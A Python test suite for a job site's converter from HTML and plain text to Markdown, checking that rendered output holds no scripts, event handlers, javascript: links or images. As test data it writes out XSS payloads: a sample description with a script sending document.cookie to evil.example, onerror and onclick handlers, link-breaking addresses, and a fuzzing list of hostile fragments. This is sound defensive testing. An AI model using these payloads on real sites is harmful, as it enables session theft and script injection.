"""A job description in HTML, or a plain note, → Markdown that the site can render safely.

The proof is the site's own renderer: the Markdown is rendered by Python-Markdown with the
extensions of a new journal's mkdocs.yml, and the HTML it gives must hold nothing that runs
or loads: no script, no event handler, no `javascript:` link, no image.
"""

from __future__ import annotations

import re

import markdown
import yaml
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from jobsite.authoring.importing.markup import html_to_markdown, inert_text, text_to_markdown

from conftest import REPO

_SCAFFOLD = REPO / "generator/jobsite/authoring/scaffold/mkdocs.yml"
EXTENSIONS = [
    next(iter(e)) if isinstance(e, dict) else e
    for e in yaml.load(_SCAFFOLD.read_text(), Loader=yaml.BaseLoader)["markdown_extensions"]
]
_FORBIDDEN_TAGS = {"script", "style", "iframe", "img", "object", "embed", "svg", "form", "base"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset"}
_BAD_SCHEME = re.compile(r"(?i)^(javascript|vbscript|data):")
_CONTROL = re.compile(r"[\x00-\x20]")

DESCRIPTION = """
<h2>About the role</h2>
<p>Build <b>data pipelines</b> &amp; APIs.<script>document.location='https://evil.example/?'
+document.cookie</script></p>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)">
<ul><li onclick="alert(2)">Python</li><li>SQL</li></ul>
<p><a href="javascript:alert(3)">Apply now</a> or read
<a href="https://globex.example/careers">our careers page</a>.</p>
"""


def dangers(text: str) -> list[str]:
    """What in the HTML that the Markdown `text` renders to could run or load anything."""
    html = markdown.markdown(text, extensions=EXTENSIONS)
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name in _FORBIDDEN_TAGS:
            found.append(f"<{tag.name}>")
        for name, written in tag.attrs.items():
            value = " ".join(written) if isinstance(written, list) else written
            if name.lower().startswith("on"):
                found.append(f"{name}=")
            if name.lower() in _URL_ATTRIBUTES and _BAD_SCHEME.match(_CONTROL.sub("", value)):
                found.append(f"{name}={value}")
    return found


def test_the_description_keeps_its_text_and_loses_what_runs_or_loads() -> None:
    text = html_to_markdown(DESCRIPTION)
    assert text == (
        "## About the role\n\n"
        "Build **data pipelines** & APIs.\n\n"
        "- Python\n- SQL\n\n"
        "Apply now or read\n[our careers page](https://globex.example/careers)."
    )
    assert dangers(text) == []
    assert dangers(DESCRIPTION) != []  # the check itself sees the danger in the original


def test_text_that_looks_like_markup_stays_text() -> None:
    html = (
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(2)) "
        '{: onclick="alert(3)"} &amp;lt;b&amp;gt; \\[y](javascript:z)</p>'
    )
    text = html_to_markdown(html)
    assert dangers(text) == []
    rendered = BeautifulSoup(markdown.markdown(text, extensions=EXTENSIONS), "html.parser")
    assert rendered.get_text() == (
        "<script>alert(1)</script> [x](javascript:alert(2)) "
        '{: onclick="alert(3)"} &lt;b&gt; \\[y](javascript:z)'
    )


def test_a_link_address_cannot_end_the_link_early() -> None:
    html = '<a href="https://x.example/a b)(c){onclick=alert(1)}">go</a>'
    text = html_to_markdown(html)
    assert text == "[go](https://x.example/a%20b%29%28c%29%7Bonclick=alert%281%29%7D)"
    assert dangers(text) == []


def test_tables_keep_their_cells_and_code_comes_through_as_text() -> None:
    html = "<table><tr><th>a</th><th>b</th></tr><tr><td>1|2</td><td>3</td></tr></table>"
    assert html_to_markdown(html) == "| a | b |\n| --- | --- |\n| 1\\|2 | 3 |"
    assert html_to_markdown("<pre>x = 1\n\n<b>y</b></pre>") == "x = 1\n**y**"


def test_plain_text_keeps_its_lines_and_its_ampersands() -> None:
    assert text_to_markdown("AT&T  \r\nQ: salary < 100k?\n\n\n\nA: <b>no</b> &amp;") == (
        "AT&T\nQ: salary < 100k?\n\nA: &lt;b>no&lt;/b> &amp;amp;"
    )
    assert inert_text("\\[x](y){z}") == "\\\\\\[x\\](y)\\{z\\}"


HOSTILE = [
    "<script>", "</script>", "alert(1)", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">', "<a href=' java\tscript:x'>", "<a href=https://x.example/(a){b}>",
    "</a>", "&lt;script&gt;", "&#60;img src=x onerror=y&#62;", "&amp;lt;",
    "[x](javascript:alert(1))", "[r]: javascript:alert(1)", "[r]", "{: onclick=alert(1)}",
    "{onmouseover=x}", "<p>", "</p>",
    "<pre>", "</pre>", "<code>", "</code>", "<table><tr><td>", "</td><td>", "|", "<li>", "<h1>",
    "<!--", "-->", "<style>", "<iframe src=//x>", '<div markdown="1">', "</div>", "<br>", "`",
    "\\", "[", "]", "(", ")", "{", "}", "<", ">", "&", "#", "*", "_", ":", "=", '"', "'", "\n",
    "\n\n", "    ", "\t", "- ", "1. ", "> ", "<http://x.example>", "<javascript:alert(1)>",
]  # fmt: skip
hostile = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=5)), max_size=25).map(
    "".join
)


@settings(max_examples=300, deadline=None)
@given(hostile)
def test_no_description_renders_anything_that_runs_or_loads(html: str) -> None:
    assert dangers(html_to_markdown(html)) == []


@settings(max_examples=300, deadline=None)
@given(hostile)
def test_no_plain_text_renders_anything_that_runs_or_loads(text: str) -> None:
    assert dangers(text_to_markdown(text)) == []
